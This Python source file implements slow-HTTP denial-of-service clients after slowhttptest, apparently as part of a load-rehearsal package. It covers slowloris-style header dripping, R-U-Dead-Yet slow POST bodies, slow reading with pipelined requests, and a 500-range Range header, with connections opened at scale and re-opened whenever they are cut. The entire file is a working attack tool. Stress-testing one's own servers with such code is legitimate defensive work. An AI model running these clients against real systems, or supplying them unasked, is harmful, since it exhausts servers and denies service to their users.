"""Slow clients, as slowhttptest plays them: each holds a connection and lets the server wait.

https://github.com/shekyan/slowhttptest: slow headers (slowloris), slow bodies (R-U-Dead-Yet), slow reading, and a Range
header that asks for everything many times over.
"""

import socket
from collections.abc import Callable
from enum import Enum

from firstbell.rehearsal.load.loop import Loop
from firstbell.rehearsal.load.orders import AttackOrders

STEP_S = 5.0
"""How long a slow client waits before its next byte."""

OPENED_PER_S = 1_000
CONNECTED_S = 1.0
"""By when a connection is there; a slow client has the time."""

READ_BYTES, RANGE_BYTES = 32, 65_536
RECEIVE_BUFFER_BYTES = 1_024
"""What a slow reader's kernel takes at once; Linux doubles it."""

PIPELINED = 8
"""Requests of a slow reader, whose answers the server must keep."""

RANGES = 500


class Kind(Enum):
    """What is slow. All connections do the same, for a quarter of the attack each."""

    HEADERS = "slow headers"
    BODY = "slow body"
    READ = "slow reading"
    RANGE = "many ranges"


class SlowClients:
    """The slow connections of one attack; `make` gives a socket that is not connected, `count` hears what happens."""

    def __init__(
        self, loop: Loop, orders: AttackOrders, make: Callable[[], socket.SocketType], count: Callable[[str], None]
    ) -> None:
        self.loop = loop
        self.make = make
        self.count = count
        self.target = orders.target.address
        self._orders = orders
        self._clients = [SlowClient(self) for _ in range(orders.slow_connections)]
        host = orders.slow_host
        get = f"GET /sign-in HTTP/1.1\r\nhost: {host}\r\n"
        ranges = ",".join(f"{first}-" for first in range(RANGES))
        begins = {
            Kind.HEADERS: get,
            Kind.BODY: f"POST /sign-in HTTP/1.1\r\nhost: {host}\r\n"
            "content-type: application/x-www-form-urlencoded\r\ncontent-length: 8192\r\n\r\n",
            Kind.READ: f"{get}\r\n" * PIPELINED,
            Kind.RANGE: f"GET {orders.slow_path} HTTP/1.1\r\nhost: {host}\r\nrange: bytes={ranges}\r\n\r\n",
        }
        self.begins = {kind: begin.encode() for kind, begin in begins.items()}

    def begin(self) -> None:
        """Open them one after the other when their time comes."""
        for turn, client in enumerate(self._clients):
            self.loop.at(self._orders.slow_from_s + turn / OPENED_PER_S, client.begin)

    def end(self) -> None:
        """Close them all."""
        for client in self._clients:
            client.close()

    def kind(self) -> Kind | None:
        """Which kind it is now, None when the attack is over."""
        begin_s, end_s = self._orders.slow_from_s, self._orders.seconds
        share = (self.loop.now() - begin_s) / max(1.0, end_s - begin_s)
        return list(Kind)[min(len(Kind) - 1, max(0, int(share * len(Kind))))] if share < 1 else None


class SlowClient:
    """Holds one connection, another when it is cut, until the attack ends."""

    __slots__ = ("_all", "_kind", "_socket")

    def __init__(self, all_of_them: SlowClients) -> None:
        self._all = all_of_them
        self._kind: Kind | None = None
        self._socket: socket.SocketType | None = None

    def begin(self, due_s: float) -> None:
        """Connect."""
        self._kind = self._all.kind()
        if self._kind is None:
            return
        try:
            self._socket = self._all.make()
            if self._kind is Kind.READ:
                self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER_BYTES)
            self._socket.connect_ex(self._all.target)
        except OSError:
            self._be_cut()
            return
        self._all.loop.at(due_s + CONNECTED_S, self._say_hello)

    def close(self) -> None:
        """End the connection."""
        if self._socket is not None:
            self._socket.close()
            self._socket = None

    def _say_hello(self, due_s: float) -> None:
        if self._socket is None or self._kind is None:
            return
        try:
            self._socket.send(self._all.begins[self._kind])
        except OSError:
            self._be_cut()
            return
        self._all.count(self._kind.value)
        self._all.loop.at(due_s + STEP_S, self._go_on)

    def _go_on(self, due_s: float) -> None:
        if self._kind is not self._all.kind():
            self.close()
            self._all.loop.at(due_s + STEP_S, self.begin)
            return
        try:
            self._step()
        except BlockingIOError:
            pass  # nothing came, or nothing may be sent: a slow client waits
        except OSError:
            self._be_cut()
            return
        self._all.loop.at(due_s + STEP_S, self._go_on)

    def _step(self) -> None:
        assert self._socket is not None  # noqa: S101 - whoever is slow is connected
        if self._kind is Kind.HEADERS:
            self._socket.send(b"x-a: b\r\n")
        elif self._kind is Kind.BODY:
            self._socket.send(b"a")
        elif not self._socket.recv(READ_BYTES if self._kind is Kind.READ else RANGE_BYTES):
            raise ConnectionResetError
        elif self._kind is Kind.RANGE:
            self._socket.send(self._all.begins[Kind.RANGE])

    def _be_cut(self) -> None:
        """Another connection takes its place."""
        self.close()
        if self._kind is not None:
            self._all.count(f"{self._kind.value}: cut")
        self._all.loop.at(self._all.loop.now() + STEP_S, self.begin)
